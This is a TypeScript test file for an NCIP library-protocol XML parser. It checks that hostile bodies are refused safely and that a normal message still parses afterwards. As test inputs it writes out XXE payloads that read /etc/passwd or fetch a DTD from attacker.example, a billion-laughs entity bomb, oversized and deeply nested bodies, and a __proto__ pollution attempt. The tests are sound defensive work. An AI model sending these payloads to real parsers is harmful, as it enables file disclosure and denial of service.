/**
 * Hostile bodies (protocols.md §6, §8.1: size limit, no DTD or entity resolution, never fetch anything): each gives
 * an `ok:false` with a Problem and returns (no timing asserts), and a normal message parses right after.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ParseOutcome } from '../../src/protocols/ncip/messages.ts';
import { parseNcipRequest } from '../../src/protocols/ncip/parse.ts';
import { MESSAGING_ERROR_SCHEME } from '../../src/protocols/ncip/problems.ts';
import { DEFAULT_MAX_BYTES, safeParseXml } from '../../src/protocols/xml/safe-parse.ts';

const NORMAL = Buffer.from(
  '<?xml version="1.0" encoding="ISO-8859-1"?><NCIPMessage xmlns="http://www.niso.org/2008/ncip" version="http://www.niso.org/schemas/ncip/v2_02/ncip_v2_02.xsd">' +
    '<CheckInItem><InitiationHeader><FromAgencyId><AgencyId>ILLIAD</AgencyId></FromAgencyId><ToAgencyId><AgencyId>US</AgencyId></ToAgencyId>' +
    '<ApplicationProfileType>ILLiad</ApplicationProfileType></InitiationHeader><ItemId><ItemIdentifierValue>123456</ItemIdentifierValue></ItemId></CheckInItem></NCIPMessage>',
  'latin1',
);

function assertRefused(outcome: ParseOutcome, detail?: RegExp): void {
  assert.ok(!outcome.ok, `expected a Problem, got ${JSON.stringify(outcome)}`);
  assert.equal(outcome.problem.type, 'Invalid Message Syntax Error');
  assert.equal(outcome.problem.scheme, MESSAGING_ERROR_SCHEME);
  assert.ok(outcome.problem.detail.length > 0);
  if (detail) assert.match(outcome.problem.detail, detail);
  assert.equal(outcome.service, null);
  const after = parseNcipRequest(NORMAL);
  assert.ok(after.ok && after.request.service === 'CheckInItem', 'a normal message still parses afterwards');
}

const wrap = (prolog: string, content = '') => Buffer.from(`<?xml version="1.0"?>${prolog}<NCIPMessage><CheckInItem><ItemId><ItemIdentifierValue>${content}</ItemIdentifierValue></ItemId></CheckInItem></NCIPMessage>`);

test('XXE: an external entity is refused before anything is read', () => {
  assertRefused(parseNcipRequest(wrap('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;')), /ENTITY/);
  assertRefused(parseNcipRequest(wrap('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>')), /ENTITY/);
  assertRefused(parseNcipRequest(wrap('<!DOCTYPE x [<!entity e SYSTEM "file:///etc/passwd">]>', '&e;')));
});

test('billion laughs: internal entity declarations are refused', () => {
  const lol = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('');
  assertRefused(parseNcipRequest(wrap(`<!DOCTYPE lolz [${lol}]>`, '&lol9;')), /ENTITY/);
});

test('a DOCTYPE with any internal subset is refused; a bare external one is tolerated and never loaded', () => {
  assertRefused(parseNcipRequest(wrap('<!DOCTYPE NCIPMessage [<!ATTLIST ItemIdentifierValue x CDATA "y">]>')), /internal subset/);
  const bare = parseNcipRequest(wrap('<!DOCTYPE NCIPMessage SYSTEM "file:///etc/passwd">', 'root:x'));
  assert.ok(bare.ok);
  assert.ok(bare.request.service === 'CheckInItem' && bare.request.itemId?.value === 'root:x');
  assert.ok(bare.notes.some((note) => note.startsWith('DOCTYPE ignored, nothing loaded')));
});

test('a 10 MB body is refused by size, the detail naming the limit', () => {
  const big = Buffer.concat([wrap(''), Buffer.alloc(10 * 1024 * 1024, 0x20)]);
  assertRefused(parseNcipRequest(big), new RegExp(`limit is ${DEFAULT_MAX_BYTES} bytes`));
  assertRefused(parseNcipRequest(NORMAL, { maxBytes: 100 }), /limit is 100 bytes/);
});

test('10 000 nested elements are refused by depth', () => {
  const nested = `<NCIPMessage><CheckInItem>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</CheckInItem></NCIPMessage>`;
  assertRefused(parseNcipRequest(Buffer.from(nested)), /deeper than/);
});

test('too many elements are refused by count', () => {
  const wide = `<NCIPMessage><CheckInItem>${'<UserElementType/>'.repeat(50_000)}</CheckInItem></NCIPMessage>`;
  assertRefused(parseNcipRequest(Buffer.from(wide)), /more than 20000 elements/);
});

test('garbage, empty and truncated bodies are refused', () => {
  let seed = 7;
  const random = Buffer.from(Array.from({ length: 4096 }, () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) & 0xff));
  assertRefused(parseNcipRequest(random));
  assertRefused(parseNcipRequest(Buffer.from([0x00, 0x01, 0x02, 0xff, 0xfe, 0x3c, 0x3c, 0x3e])));
  assertRefused(parseNcipRequest(Buffer.alloc(0)));
  assertRefused(parseNcipRequest(Buffer.from('not xml at all')));
  assertRefused(parseNcipRequest(NORMAL.subarray(0, NORMAL.length - 20)));
  assertRefused(parseNcipRequest(Buffer.from('<NCIPMessage/><NCIPMessage/>')), /more than one root/);
  // `__proto__` is a legal element name: read as data (an unknown service, answered with a Problem), never as a prototype.
  const proto = parseNcipRequest(Buffer.from('<NCIPMessage><__proto__><polluted>1</polluted></__proto__></NCIPMessage>'));
  assert.ok(proto.ok && proto.request.service === 'Unsupported' && proto.request.name === '__proto__');
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});

test('safeParseXml reports why, for callers other than NCIP', () => {
  const refused = safeParseXml(Buffer.from('<!DOCTYPE x [<!ENTITY e "e">]><x>&e;</x>'));
  assert.deepEqual(refused.ok ? null : refused.reason, 'entity-declaration');
  const deep = safeParseXml('<a><a><a/></a></a>', { maxDepth: 2 });
  assert.deepEqual(deep.ok ? null : deep.reason, 'too-deep');
  const ok = safeParseXml('<p:root xmlns:p="urn:x" p:v="1"><p:child>t</p:child></p:root>');
  assert.ok(ok.ok);
  assert.deepEqual([ok.root.name, ok.root.prefix, ok.root.namespace, ok.root.attributes['p:v']], ['root', 'p', 'urn:x', '1']);
});

test('NUL and the other characters XML does not allow are read as U+FFFD, noted, so no database or answer meets them', () => {
  const parsed = parseNcipRequest(wrap('', '12\u000034\u000b\uFFFF'));
  assert.ok(parsed.ok && parsed.request.service === 'CheckInItem');
  assert.equal(parsed.request.itemId?.value, '12\uFFFD34\uFFFD\uFFFD');
  assert.ok(parsed.notes.includes('3 characters XML does not allow (NUL, control characters, lone surrogates) read as U+FFFD'), parsed.notes.join('; '));
  const clean = parseNcipRequest(wrap('', '1234'));
  assert.ok(clean.ok && !clean.notes.some((note) => note.includes('U+FFFD')));
});
